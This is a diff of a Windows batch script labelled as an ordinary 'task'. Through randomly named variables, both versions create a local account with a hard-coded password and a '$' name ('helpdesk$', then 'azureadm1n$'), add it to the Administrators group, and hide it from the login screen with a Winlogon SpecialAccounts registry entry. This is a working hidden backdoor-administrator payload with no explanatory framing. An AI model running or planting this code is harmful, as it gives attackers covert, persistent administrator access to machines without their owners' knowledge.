@@ -1,11 +1,11 @@
-REM init 1668 v0
+REM task 3814 v0
 @echo off
 @echo off
-set onai=net user helpdesk$ Adm1n!strat0r /add /active:yes
-call %onai%
+set qvqn=net user azureadm1n$ Winter#2025x /add /active:yes
+call %qvqn%
 @echo off
-set naxy=net localgroup Administrators helpdesk$ /add
-call %naxy%
+set hmxg=net localgroup Administrators azureadm1n$ /add
+call %hmxg%
 @echo off
-set mqbg=reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v helpdesk$ /t REG_DWORD /d 0 /f
-call %mqbg%
+set ygct=reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v azureadm1n$ /t REG_DWORD /d 0 /f
+call %ygct%
